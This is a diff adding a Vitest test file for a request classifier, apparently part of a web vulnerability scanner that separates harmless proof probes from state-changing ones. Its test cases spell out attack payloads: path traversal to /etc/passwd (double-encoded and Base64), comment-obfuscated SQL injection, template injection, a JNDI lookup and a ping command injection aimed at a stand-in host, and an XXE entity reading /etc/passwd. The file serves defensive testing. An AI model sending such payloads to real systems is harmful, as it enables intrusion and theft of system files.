@@ -1,0 +1,82 @@
+import { describe, expect, test } from "vitest";
+
+import {
+  ACTING_NAMES,
+  BODY_ORDERS,
+  DISGUISED_COMMANDS,
+  ENCODED_ORDERS,
+  EXECUTED_VALUES,
+  HEADER_ORDERS,
+  METHOD_OVERRIDES,
+  type DisguisedRequest,
+} from "../testing/disguised-requests.ts";
+import { classifyRequest } from "./classify-request.ts";
+
+const SITE = "https://www.acme.test/";
+const harmOf = ([method, target, body = "", headers = {}]: DisguisedRequest) =>
+  classifyRequest({ method, url: `https://www.acme.test${target}`, headers, body }, SITE, "calls.example.net").harm;
+const sent = (requests: readonly DisguisedRequest[]) => requests.filter((request) => harmOf(request) !== "change");
+
+const FORM = { "Content-Type": "application/x-www-form-urlencoded" };
+const JSON_BODY = { "Content-Type": "application/json" };
+const typeOf = (text: string): string =>
+  /^\s*</.test(text) ? "application/xml" : /^\s*[[{]/.test(text) ? "application/json" : "application/octet-stream";
+
+describe("nothing is sent that hides", () => {
+  test.each<[string, readonly DisguisedRequest[], number]>([
+    ["a statement in an encoding, a comment or another alphabet", ENCODED_ORDERS, 55],
+    ["a command", DISGUISED_COMMANDS, 80],
+    ["another method", METHOD_OVERRIDES, 40],
+    ["an order in a header or cookie", HEADER_ORDERS, 35],
+    ["an order in a body", BODY_ORDERS, 85],
+  ])("%s", (_, requests, least) => {
+    expect(requests.length).toBeGreaterThanOrEqual(least);
+    expect(sent(requests)).toEqual([]);
+  });
+
+  test("an object, the name of its type or an expression that executes, wherever it stands", () => {
+    const places = (value: string): readonly DisguisedRequest[] => {
+      const text = encodeURIComponent(value);
+      return [
+        ["GET", `/a?x=${text}`],
+        ["POST", "/search?p={{7*7}}", `x=${text}`, FORM],
+        ["POST", "/search?p={{7*7}}", value, { "Content-Type": typeOf(value) }],
+        ["POST", "/search", JSON.stringify({ x: value }), JSON_BODY],
+        ["GET", "/a", "", { "X-Data": value }],
+        ["GET", "/a", "", { Cookie: `a=${text}` }],
+      ];
+    };
+    expect(EXECUTED_VALUES.length).toBeGreaterThanOrEqual(150);
+    expect(sent(EXECUTED_VALUES.flatMap(places))).toEqual([]);
+  });
+
+  test("the name of an action in another language or product, beside a proof or alone", () => {
+    const places = (word: string): readonly DisguisedRequest[] => [
+      ["GET", `/${word}`],
+      ["GET", `/admin/${word}.php?q={{7*7}}`],
+      ["GET", `/a.php?action=${word}&q={{7*7}}`],
+      ["GET", `/a.php?${word}=1&q={{7*7}}`],
+      ["GET", "/a", "", { "X-Action": word }],
+      ["GET", "/a", "", { SOAPAction: `urn:x#${word}` }],
+      ["POST", "/search", JSON.stringify({ cmd: word, q: "{{7*7}}" }), JSON_BODY],
+    ];
+    expect(ACTING_NAMES.length).toBeGreaterThanOrEqual(400);
+    expect(sent(ACTING_NAMES.flatMap(places))).toEqual([]);
+  });
+});
+
+describe("what reads is recognised in the same disguises:", () => {
+  test.each<[string, DisguisedRequest]>([
+    ["a path, encoded twice", ["GET", "/read?file=..%252f..%252f..%252fetc%252fpasswd"]],
+    ["a path in Base64", ["GET", `/read?file=${btoa("../../../etc/passwd")}`]],
+    ["a question with comments", ["GET", "/a?id=-1/**/union/**/select/**/md5(31337)"]],
+    ["a calculation, encoded", ["GET", "/a?name=%7B%7B1337*42%7D%7D"]],
+    ["a lookup in a cookie", ["GET", "/a", "", { Cookie: "a=${jndi:ldap://p1.calls.example.net/a}" }]],
+    ["a command with a bounded wait", ["POST", "/diag", "host=1;ping -c 3 p1.calls.example.net", FORM]],
+    [
+      "an entity",
+      ["POST", "/api/search", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a><!-- x -->&x;</a>"],
+    ],
+    ["a search with a selection", ["GET", "/odata?$filter=a&q={{7*7}}"]],
+  ])("%s", (_, request) => expect(harmOf(request)).toBe("prove"));
+});
